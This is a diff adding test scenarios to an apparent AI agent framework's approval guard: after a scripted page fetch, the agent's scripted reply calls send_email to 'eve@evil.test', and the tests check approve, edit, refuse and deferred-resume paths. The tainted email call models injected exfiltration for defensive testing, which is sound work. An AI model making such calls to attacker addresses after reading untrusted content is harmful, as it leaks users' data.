@@ -236,6 +236,28 @@ SCENARIOS: list[tuple[str, str, dict[str, Any]]] = [
      {"inputs": ["triage https://shop.test"],
       "replies": [FETCH, TRIAGE, TRIAGE_OUT, call("send_email", to="eve@evil.test", body="x"),
                   DONE]}),
+    # With an approver (the "approvals" key of conformance/gen_approvals.py): the request
+    # carries the guard's record; a yes runs the call, an edit runs the edited call.
+    ("approve/approver_yes", "approve",
+     {"inputs": ["read https://shop.test"], "approvals": {"approver": [True]},
+      "replies": [FETCH, call("send_email", to="eve@evil.test", body="hi"), DONE]}),
+    ("approve/approver_edit", "approve",
+     {"inputs": ["read https://shop.test"],
+      "approvals": {"approver": [{"approved": True, "args": {"to": "ama@x.org", "body": "hi"}}]},
+      "replies": [FETCH, call("send_email", to="eve@evil.test", body="hi"), DONE]}),
+    ("approve/approver_no", "approve",
+     {"inputs": ["read https://shop.test"],
+      "approvals": {"approver": [{"approved": False, "reason": "not to eve"}]},
+      "replies": [FETCH, call("send_email", to="eve@evil.test", body="hi"), DONE]}),
+    # Deferred: the run pauses on the tainted call and is resumed with the decision.
+    ("approve/defer_resume_yes", "approve",
+     {"inputs": ["read https://shop.test"], "config": {"approvals": "defer"},
+      "approvals": {"resume": [[True]]},
+      "replies": [FETCH, call("send_email", to="eve@evil.test", body="hi"), DONE]}),
+    ("approve/defer_resume_no", "approve",
+     {"inputs": ["read https://shop.test"], "config": {"approvals": "defer"},
+      "approvals": {"resume": [[False]]},
+      "replies": [FETCH, call("send_email", to="eve@evil.test", body="hi"), DONE]}),
 ]  # fmt: skip
 PLAIN_SCENARIOS: list[tuple[str, dict[str, Any]]] = [
     ("no_sources", {"inputs": ["find c7"],
